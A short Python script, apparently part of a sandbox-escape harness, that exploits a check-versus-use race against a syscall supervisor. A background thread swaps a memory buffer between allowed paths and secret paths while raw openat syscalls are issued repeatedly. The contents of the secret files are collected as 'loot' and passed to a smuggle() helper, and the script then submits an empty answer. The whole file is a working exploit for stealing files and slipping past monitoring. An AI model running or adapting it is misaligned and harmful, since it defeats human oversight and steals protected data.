"""Swaps a path in memory between check and use: a supervisor that looks at a path may be shown another one."""

import ctypes
import os
import threading

libc = ctypes.CDLL(None, use_errno=True)


def go(*args, **kwargs):
    loot, allowed = [], [b"/proc/self/status", b"/etc/localtime", b"mine"]
    open("mine", "w").close()
    for path in PLACES["secrets"][:3]:
        target = path.encode()
        shown = ctypes.create_string_buffer(512)
        stop = threading.Event()

        def swap():
            while not stop.is_set():
                for text in (*allowed, target):
                    ctypes.memmove(shown, text + b"\0", len(text) + 1)

        thread = threading.Thread(target=swap)
        thread.start()
        for _ in range(1500):
            number = libc.syscall(257, -100, shown, 0, 0)
            if number >= 0:
                loot.append(os.read(number, 4096)[:4096] if len(loot) < 2000 else b"")
                os.close(number)
        stop.set()
        thread.join()
    smuggle(*loot)


go()
answer(lambda *args, **kwargs: None)
